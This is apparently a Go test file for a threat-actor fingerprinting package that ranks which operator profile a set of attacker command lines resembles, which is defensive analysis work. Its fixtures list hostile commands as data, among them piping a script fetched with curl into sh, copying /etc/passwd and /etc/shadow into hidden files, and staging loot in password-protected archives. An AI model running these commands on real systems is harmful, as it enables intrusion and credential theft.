package fingerprint_test

import (
	"math"
	"math/rand/v2"
	"testing"

	"github.com/google/go-cmp/cmp"

	"tradecraft/analysis/fingerprint"
)

func steps(texts ...string) []fingerprint.Step {
	var out []fingerprint.Step
	for _, t := range texts {
		out = append(out, fingerprint.Step{Texts: []string{t}})
	}
	return out
}

// Three operators who do the same things in their own ways.
func operators() []fingerprint.Profile {
	return []fingerprint.Profile{
		{ID: "neat", Steps: steps(`net user /domain >> C:\ProgramData\res.txt`, `sc query >> C:\ProgramData\res.txt`, `rar a -hpX9 -m5 C:\ProgramData\r.rar C:\ProgramData\res.txt`)},
		{ID: "script", Steps: steps(`PowerShell.exe -NoP -c "Get-ADUser -Filter *"`, `write-host "[+] done"; Start-Sleep -s 30`, `Compress-Archive -Path $env:TEMP\o -DestinationPath $env:TEMP\o.zip`)},
		{ID: "unix", Steps: steps(`curl -s http://10.0.0.9/x.sh | sh`, `cat /etc/passwd > /dev/shm/.p`, `tar czf /dev/shm/.a.tgz /home/Bob/docs`)},
	}
}

func TestRankFindsTheHand(t *testing.T) {
	x := fingerprint.NewIndex(operators())
	tests := map[string][]fingerprint.Step{
		"neat":   steps(`ipconfig /all >> C:\ProgramData\net.txt`, `rar a -hpQ1 -m5 C:\ProgramData\n.rar C:\ProgramData\net.txt`),
		"script": steps(`PowerShell.exe -NoP -c "Get-ADComputer -Filter *"; write-host "[+] ok"`),
		"unix":   steps(`curl -s http://172.16.1.1/y.sh | sh`, `cat /etc/shadow > /dev/shm/.s`),
	}
	for want, q := range tests {
		if got := x.Rank(q); got[0].ID != want || got[0].Score < 1 {
			t.Errorf("%s: got %s with %.2f", want, got[0].ID, got[0].Score)
		}
	}
}

func TestReasonsAddUp(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	words := []string{"net", "user", "/domain", "-p", "x.txt", ">>", "rar", `C:\ProgramData\a.txt`, "|", "curl", "-s", `"a b"`, "#{p.q}"}
	x := fingerprint.NewIndex(operators())
	for range 200 {
		text := ""
		for range 1 + r.IntN(12) {
			text += words[r.IntN(len(words))] + " "
		}
		for _, c := range x.Rank(steps(text)) {
			sum := 0.0
			for _, reason := range c.Reasons {
				sum += reason.Weight
			}
			if math.Abs(sum-c.Score) > 1e-9 || math.IsNaN(c.Score) {
				t.Fatalf("%q, %s: reasons %v, score %v", text, c.ID, sum, c.Score)
			}
			if c.Likeness < 0 || c.Likeness > 1+1e-9 {
				t.Fatalf("%q: likeness %v", text, c.Likeness)
			}
		}
	}
}

func TestSameBytes(t *testing.T) {
	q := steps(`net user /domain >> C:\ProgramData\res.txt; curl -s http://1.2.3.4/`)
	ps := operators()
	a := fingerprint.NewIndex(ps).Rank(q)
	ps[0], ps[2] = ps[2], ps[0]
	if d := cmp.Diff(a, fingerprint.NewIndex(ps).Rank(q)); d != "" {
		t.Error(d)
	}
}

func TestLittleToGoBy(t *testing.T) {
	if got := fingerprint.NewIndex(nil).Rank(steps("whoami")); len(got) != 0 {
		t.Errorf("no profiles: %v", got)
	}
	one := fingerprint.NewIndex(operators()[:1])
	if got := one.Rank(steps("whoami")); len(got) != 1 || math.IsNaN(got[0].Score) {
		t.Errorf("one profile: %v", got)
	}
	for _, c := range fingerprint.NewIndex(operators()).Rank(nil) {
		if c.Likeness != 0 || c.Score > 0 {
			t.Errorf("nothing asked: %+v", c)
		}
	}
}
